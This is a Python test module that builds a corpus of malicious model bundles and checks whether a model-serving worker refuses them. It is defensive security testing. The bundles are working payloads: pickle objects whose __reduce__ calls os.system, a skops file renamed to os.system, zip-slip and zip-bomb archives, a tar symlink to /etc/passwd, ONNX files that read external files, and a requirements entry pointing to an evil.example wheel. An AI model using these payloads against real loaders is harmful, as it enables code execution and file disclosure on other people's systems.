"""Bundles made to do harm when they are loaded, and the process that loads them: ``python -m tests.serving.corpus HOME CANARY``.

It prints what became of each: unsigned (was anything parsed?), and signed with the key that is trusted.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, Literal

from tests.serving.house import SCHEMA, House, bundle, make_house, other_sealer, skops_bundle

from ecluse.adapters.scorer_onnx import OnnxScorer
from ecluse.adapters.scorer_process import load
from ecluse.adapters.sealing import verify
from ecluse.core.bundle import Bundle, make_bundle
from ecluse.core.document import ServedVersion
from ecluse.core.errors import EcluseError
from ecluse.serving.scorers import make_load

Kind = Literal["onnx", "skops"]
Evil = tuple[Kind, dict[str, bytes]]


class Run:
    """Whoever unpickles it runs a command."""

    def __init__(self, canary: Path) -> None:
        self.command = f"touch {canary}"

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def corpus(canary: Path) -> dict[str, Evil]:
    """Every bad bundle's scorer and files, by what it tries."""
    run, good = Run(canary), skops_bundle().model_bytes
    found: dict[str, Evil] = {f"pickle {p}": ("onnx", {"": pickle.dumps(run, p)}) for p in (0, 2, 5)}
    found |= {
        "pickle as skops": ("skops", {"": pickle.dumps(run)}),
        "gzip of a pickle": ("skops", {"": gzip.compress(pickle.dumps(run))}),
        "joblib": ("skops", {"": _joblib(run)}),
        "cloudpickle": ("onnx", {"": _cloudpickle(canary)}),
        "python": ("onnx", {"": f"import os; os.system({run.command!r})".encode()}),
        "shared object": ("onnx", {"": b"\x7fELF\x02\x01\x01" + bytes(64)}),
        "tar with a link": ("skops", {"": _tar()}),
        "skops with os.system": ("skops", {"": _skops({"run": os.system})}),
        "skops renamed to os.system": ("skops", {"": _edited(good, _rename)}),
        "skops with an unknown loader": ("skops", {"": _edited(good, _reload)}),
        "skops with pickled arrays": ("skops", {"": _edited(good, None, run)}),
        "zip slip": ("skops", {"": _zip({"../../evil.py": b"x", "schema.json": b"{}"})}),
        "zip bomb": ("skops", {"": _zip({"schema.json": b" " * 200_000_000}, zipfile.ZIP_DEFLATED)}),
        "polyglot": ("skops", {"": bundle(1.0).model_bytes + _skops({"run": os.system})}),
        "polyglot as onnx": ("onnx", {"": bundle(1.0).model_bytes + _zip({"evil.py": b"x"})}),
        "onnx reading a file": ("onnx", {"": _external(canary.with_name("secret.bin"))}),
        "onnx reading a file, written longer": ("onnx", {"": _longer(_external(canary.with_name("secret.bin")))}),
        "onnx with an operator of its own": ("onnx", {"": _operator()}),
        "onnx that claims a terabyte": ("onnx", {"": b"\x3a\x80\x80\x80\x80\x80\x20" + b"x" * 100}),
        "requirements with an address": ("onnx", {"requirements.txt": b"evil @ https://evil.example/evil.whl"}),
        "a module that starts by itself": ("onnx", {"sitecustomize.py": b"import os"}),
    }
    return found


def assemble(evil: Evil) -> Bundle:
    """A bundle that is right but for what is evil in it. The file called "" is the model."""
    kind, files = evil
    base = dict((bundle(1.0) if kind == "onnx" else skops_bundle()).files)
    base |= {name or f"model.{kind}": data for name, data in files.items()}
    split = bundle(1.0).manifest.split
    return make_bundle(model=SCHEMA.model, scorer=kind, recipe="r", dataset="d", split=split, files=base)


def _joblib(run: Run) -> bytes:
    import joblib

    out = io.BytesIO()
    joblib.dump(run, out, compress=3)
    return out.getvalue()


def _cloudpickle(canary: Path) -> bytes:
    import cloudpickle  # type: ignore[import-untyped]

    data: bytes = cloudpickle.dumps(Run(canary))
    return data


def _skops(value: object) -> bytes:
    import skops.io

    data: bytes = skops.io.dumps(value)
    return data


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("model")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return out.getvalue()


def _edited(good: bytes, change: Callable[[dict[str, Any]], None] | None, pickled: Run | None = None) -> bytes:
    import numpy as np

    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    if change is not None:
        tree = json.loads(members["schema.json"])
        change(tree)
        members["schema.json"] = json.dumps(tree).encode()
    if pickled is not None:
        out = io.BytesIO()
        np.save(out, np.array([pickled], dtype=object), allow_pickle=True)
        members = {name: out.getvalue() if name.endswith(".npy") else data for name, data in members.items()}
    return _zip(members)


def _rename(tree: dict[str, Any]) -> None:
    tree["__module__"], tree["__class__"] = "os", "system"


def _reload(tree: dict[str, Any]) -> None:
    tree["__loader__"] = "EvilNode"


def _external(secret: Path) -> bytes:
    """A model that would be right, with its weights in a file that is there."""
    import numpy as np
    import onnx
    from onnx import helper

    double = onnx.TensorProto.DOUBLE
    secret.write_bytes(np.ones((5, 1)).tobytes())
    weights = onnx.TensorProto(name="w", data_type=double, dims=[5, 1], data_location=onnx.TensorProto.EXTERNAL)
    weights.external_data.add(key="location", value=os.path.relpath(secret))
    ports = [helper.make_tensor_value_info(n, double, ["n", k]) for n, k in (("x", 5), ("y", 1))]
    node = helper.make_node("MatMul", ["x", "w"], ["y"])
    graph = helper.make_graph([node], "g", ports[:1], ports[1:], initializer=[weights])
    data: bytes = helper.make_model(
        graph, ir_version=9, opset_imports=[helper.make_opsetid("", 17)]
    ).SerializeToString()
    return data


def _longer(model: bytes) -> bytes:
    """The same message with the key's length in two bytes; every length around it grows by one."""
    import onnx

    entry = b"\x0a\x08location"
    parsed = onnx.load_model_from_string(model)
    parsed.graph.initializer[0].external_data[0].key = "location_"  # one byte longer, and so is all around it
    longer = parsed.SerializeToString()
    assert b"\x0a\x09location_" in longer
    out: bytes = longer.replace(b"\x0a\x09location_", b"\x0a\x88\x00location")
    assert entry not in out
    return out


def _operator() -> bytes:
    import onnx
    from onnx import helper

    double = onnx.TensorProto.DOUBLE
    ports = [helper.make_tensor_value_info(n, double, ["n", k]) for n, k in (("x", 5), ("y", 1))]
    graph = helper.make_graph([helper.make_node("Shell", ["x"], ["y"], domain="evil")], "g", ports[:1], ports[1:])
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("evil", 1)]
    data: bytes = helper.make_model(graph, ir_version=9, opset_imports=opsets).SerializeToString()
    return data


class Opened:
    """Opens scorers as a worker does, the skops ones in this process so that it is seen what they do; counts how many it was asked for."""

    def __init__(self, defect: str) -> None:
        self.count, self._defect = 0, defect

    def __call__(self, made: Bundle) -> Any:
        """The scorer of a bundle."""
        self.count += 1
        if self._defect == "pickle":
            return pickle.loads(made.model_bytes)
        return OnnxScorer(made.model_bytes) if made.manifest.scorer == "onnx" else load(made.model_bytes)


def attempt(house: House, evil: Evil, *, signed: bool, opened: Opened) -> str:
    """Why a worker refuses the bundle; "" when it loads it."""
    sealer = house.sealer if signed else other_sealer()
    made = assemble(evil)
    house.bundles.delete(made.digest)
    house.bundles.put(made, sealer.sign(made.digest))
    loader = make_load(house.bundles, verify, opened)
    try:
        loader("churn", 1, ServedVersion(made.digest, 0.5), [house.sealer.public_key])
    except EcluseError as error:
        return error.what
    except Exception as error:  # noqa: BLE001 - a worker takes any of them as a refusal
        return f"{type(error).__name__}: {error}"
    return ""


def main() -> None:
    """Try all of them, and tell."""
    home, canary, defect = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3]
    house, told = make_house(home), {}
    evils = corpus(canary)
    for name, evil in evils.items():
        for signed in (False, True):
            sys.audit("ecluse.corpus", name, signed)
            opened = Opened(defect)
            why = attempt(house, evil, signed=signed, opened=opened)
            sys.audit("ecluse.corpus", "", signed)
            told[f"{name}, {'signed' if signed else 'unsigned'}"] = [why, opened.count]
    print(json.dumps(told))


if __name__ == "__main__":
    main()
